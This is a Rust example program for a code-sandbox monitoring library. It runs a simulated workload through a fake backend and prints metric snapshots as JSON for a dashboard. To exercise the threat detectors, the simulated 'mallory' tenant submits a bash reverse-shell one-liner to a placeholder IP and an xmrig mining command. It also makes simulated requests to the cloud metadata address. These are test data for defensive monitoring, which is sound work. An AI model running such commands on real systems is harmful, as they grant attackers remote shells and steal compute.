//! Drives a scripted workload through the engine (fake backend, with start-up and run times
//! that look like real ones) with every monitor on, and prints the metrics as a time series of
//! snapshots (JSON, one snapshot per virtual 15-second step): the data
//! `scripts/render-dashboard.py` draws the dashboard's panels from.
//!
//! `cargo run -p vana-sandbox-monitor --example metrics_series > series.json`
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::sync::Arc;
use std::time::Duration;

use async_trait::async_trait;
use tokio::sync::Semaphore;
use vana_sandbox_core::compile_cache::DirCompileCache;
use vana_sandbox_core::fake::{default_script, FakeExecutor, FakeLanguage, FakePolicy};
use vana_sandbox_core::network::{AddressClass, Decision, DenyReason, Method, Verdict};
use vana_sandbox_core::spec::InstanceSpec;
use vana_sandbox_core::{
    BackendError, BackendKind, Capabilities, Engine, Event, ExecutionRequest, Executor, Exit,
    Instance, Languages, Monitor, ProcessOutcome, SecurityEvent, SecurityEventKind, SessionEnd,
    Stop,
};
use vana_sandbox_monitor::alert::{Alerter, LogSink};
use vana_sandbox_monitor::audit::AuditLog;
use vana_sandbox_monitor::hooks::{Hooks, PoolEvent};
use vana_sandbox_monitor::metrics::Metrics;
use vana_sandbox_monitor::threat::ThreatDetector;

const STEPS: u64 = 60;
const STEP_SECONDS: u64 = 15;

/// A deterministic pseudo-random sequence (xorshift).
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
}

/// The fake backend, with a start-up time like a sandbox's.
struct Slow(FakeExecutor);

#[async_trait]
impl Executor for Slow {
    fn kind(&self) -> BackendKind {
        self.0.kind()
    }

    fn capabilities(&self) -> &Capabilities {
        self.0.capabilities()
    }

    async fn create(&self, spec: &InstanceSpec) -> Result<Box<dyn Instance>, BackendError> {
        let ms = 4 + (spec.id.bytes().map(u64::from).sum::<u64>() % 9);
        tokio::time::sleep(Duration::from_millis(ms)).await;
        self.0.create(spec).await
    }
}

fn script() -> FakeExecutor {
    FakeExecutor::new(|p, files, stdin| {
        let code = String::from_utf8_lossy(
            files
                .get("main.fake")
                .map(Vec::as_slice)
                .unwrap_or_default(),
        )
        .into_owned();
        let ms: u64 = code
            .split_whitespace()
            .find_map(|w| w.strip_prefix("ms=").and_then(|v| v.parse().ok()))
            .unwrap_or(5);
        std::thread::sleep(Duration::from_millis(ms));
        let mut o = ProcessOutcome {
            wall_time: Duration::from_millis(ms),
            ..Default::default()
        };
        if p.argv[0] != "/bin/fake" {
            return default_script(p, files, stdin).map(|mut d| {
                d.wall_time = Duration::from_millis(ms * 4);
                d
            });
        }
        if code.contains("fail") {
            o.exit = Exit::Code(1);
        } else if code.contains("timeout") {
            o.exit = Exit::Signal(9);
            o.stopped = Some(Stop::Timeout);
        } else if code.contains("oom") {
            o.exit = Exit::Signal(9);
            o.oom_killed = true;
        } else if code.contains("seccomp") {
            o.exit = Exit::Signal(31);
            o.events = vec![SecurityEvent::new(
                SecurityEventKind::SeccompKill,
                "SIGSYS: ptrace",
            )];
        } else if code.contains("forkbomb") {
            o.exit = Exit::Code(1);
            o.pids_limit_hits = 4;
        } else if code.contains("guard") {
            o.events = vec![SecurityEvent::program(
                SecurityEventKind::LanguageGuard,
                "python subprocess: subprocess.Popen ['sh']",
            )];
        }
        Ok(o)
    })
}

fn main() {
    let dir = std::env::temp_dir().join(format!("vana-series-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    let metrics = Metrics::new();
    let audit = AuditLog::builder(dir.join("audit"))
        .metrics(metrics.clone())
        .start()
        .unwrap();
    let alerts = Alerter::builder()
        .sink(Arc::new(LogSink))
        .metrics(metrics.clone())
        .start()
        .unwrap();
    let threats = ThreatDetector::builder()
        .sink(alerts.clone())
        .sink(audit.clone())
        .metrics(metrics.clone())
        .start()
        .unwrap();
    let monitor = metrics.monitor();
    let gate = Arc::new(Semaphore::new(1_000_000));
    let engine = Engine::builder()
        .executor(Arc::new(Slow(script().with_gate(gate.clone()))))
        .policy(Arc::new(FakePolicy::default()))
        .languages(
            Languages::new()
                .with(Arc::new(FakeLanguage::interpreted()))
                .with(Arc::new(FakeLanguage::compiled())),
        )
        .compile_cache(Arc::new(
            DirCompileCache::new(dir.join("cache"), 64 << 20).unwrap(),
        ))
        .monitor(audit.clone())
        .monitor(monitor.clone())
        .monitor(threats.clone())
        .monitor(alerts.clone())
        .max_concurrency(4)
        .max_queue(32)
        .build()
        .unwrap();
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap();
    // What the fake engine has no sessions or proxy for: their events go to every monitor, as
    // the engine would send them.
    let monitors: Vec<Arc<dyn Monitor>> = vec![
        audit.clone(),
        monitor.clone(),
        threats.clone(),
        alerts.clone(),
    ];
    let emit = |event: &Event<'_>| {
        for m in &monitors {
            m.on_event(event);
        }
    };
    let session_spec = vana_sandbox_core::SandboxSpec {
        limits: vana_sandbox_core::Limits::default(),
        compile_limits: vana_sandbox_core::Limits::default(),
        network: vana_sandbox_core::NetworkMode::None,
        require: Vec::new(),
        runtime: None,
        guards: vana_sandbox_core::Guards::default(),
        opt_level: 1,
        cache_scope: vana_sandbox_core::CacheScope::Shared,
        packages: None,
        policy_name: "fake".into(),
        policy_fingerprint: "sha256:fake".into(),
    };
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    let mut snapshots = Vec::new();
    let mut open_sessions: Vec<String> = Vec::new();
    let mut session_seq = 0u64;
    for step in 0..STEPS {
        let wave = ((step as f64) / 7.0).sin();
        let runs = (24.0 + 12.0 * wave) as u64;
        let mut requests = Vec::new();
        for i in 0..runs {
            let tenant = ["acme", "beta", "gamma"][rng.below(3) as usize];
            let ms = 5 + rng.below(40) + if wave > 0.5 { rng.below(60) } else { 0 };
            let roll = rng.below(100);
            let (language, code) = match roll {
                0..=59 => ("fake", format!("print({i}) ms={ms}")),
                60..=71 => (
                    "fakec",
                    format!("compile! variant {} ms={ms}", rng.below(6)),
                ),
                72..=81 => ("fake", format!("fail ms={ms}")),
                82..=84 => ("fake", format!("timeout ms={}", ms * 3)),
                85 => ("fake", "oom ms=20".to_string()),
                86 => ("cobol", "x".to_string()),
                87 => ("fake", format!("guard ms={ms}")),
                _ => ("fake", format!("x = {i} ms={ms}")),
            };
            requests.push((tenant, ExecutionRequest::new(language, code)));
        }
        // Incidents: an attacker between steps 18 and 24, a burst at 40-44.
        if (18..24).contains(&step) {
            for code in [
                "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 ms=5",
                "./xmrig -o stratum+tcp://pool:3333 ms=5",
                "seccomp ms=5",
                "forkbomb ms=30",
            ] {
                requests.push(("mallory", ExecutionRequest::new("fake", code)));
            }
        }
        let burst = (40..45).contains(&step);
        rt.block_on(async {
            if burst {
                // Hold the backend so that the queue fills (and refuses some) before it drains.
                gate.forget_permits(1_000_000);
            }
            let mut tasks = Vec::new();
            let extra = if burst { 24 } else { 0 };
            for i in 0..extra {
                requests.push((
                    "beta",
                    ExecutionRequest::new("fake", format!("burst {i} ms=20")),
                ));
            }
            for (tenant, req) in requests {
                let e = engine.clone();
                tasks.push(tokio::spawn(async move { e.execute_as(tenant, req).await }));
            }
            if burst {
                tokio::time::sleep(Duration::from_millis(50)).await;
                snapshots.push((step, metrics.snapshot()));
                gate.add_permits(1_000_000);
            }
            for t in tasks {
                let _ = t.await;
            }
        });
        // Sessions and the egress proxy (engine events), the warm pool (hooks).
        let opened = rng.below(4);
        let closed = (rng.below(4) as usize).min(open_sessions.len() + opened as usize);
        for _ in 0..opened {
            session_seq += 1;
            let id = format!("s{session_seq}");
            emit(&Event::SessionOpened {
                id: &id,
                tenant: Some("acme"),
                backend: BackendKind::Docker,
                spec: &session_spec,
            });
            open_sessions.push(id);
        }
        for _ in 0..closed {
            let id = open_sessions.remove(0);
            let reason = if rng.below(3) == 0 {
                SessionEnd::IdleTimeout
            } else {
                SessionEnd::Closed
            };
            emit(&Event::SessionClosed {
                id: &id,
                tenant: Some("acme"),
                reason,
                cells: 1 + rng.below(20),
                lifetime: Duration::from_secs(30 + rng.below(600)),
            });
        }
        monitor.on_pool(&PoolEvent::Size {
            backend: BackendKind::Docker,
            size: (2 + rng.below(3)) as usize,
        });
        for _ in 0..runs / 2 {
            monitor.on_pool(&PoolEvent::Lookup {
                backend: BackendKind::Docker,
                hit: rng.below(10) < 8,
            });
        }
        for _ in 0..rng.below(8) {
            let deny = rng.below(10) < 2 || (18..24).contains(&step);
            let decision = Decision {
                host: if deny { "169.254.169.254" } else { "pypi.org" }.into(),
                port: if deny { 80 } else { 443 },
                method: if deny { Method::Get } else { Method::Connect },
                address: None,
                bytes_up: if deny { 0 } else { 600 + rng.below(2000) },
                bytes_down: if deny { 0 } else { 4000 + rng.below(200_000) },
                verdict: if deny {
                    Verdict::Denied(DenyReason::Address(AddressClass::Metadata))
                } else {
                    Verdict::Allowed
                },
                at: std::time::SystemTime::now(),
                duration: Duration::from_millis(5 + rng.below(200)),
            };
            emit(&Event::Network {
                id: "r",
                tenant: Some(if deny { "mallory" } else { "acme" }),
                decision: &decision,
            });
        }
        threats.flush(Duration::from_secs(5));
        alerts.flush(Duration::from_secs(5));
        audit.flush(Duration::from_secs(5));
        if !burst {
            snapshots.push((step, metrics.snapshot()));
        }
    }
    let out = serde_json::json!({
        "step_seconds": STEP_SECONDS,
        "snapshots": snapshots.iter().map(|(step, s)| serde_json::json!({
            "t": step * STEP_SECONDS,
            "series": s.series,
        })).collect::<Vec<_>>(),
    });
    println!("{out}");
    audit.shutdown(Duration::from_secs(5));
    let _ = std::fs::remove_dir_all(&dir);
}
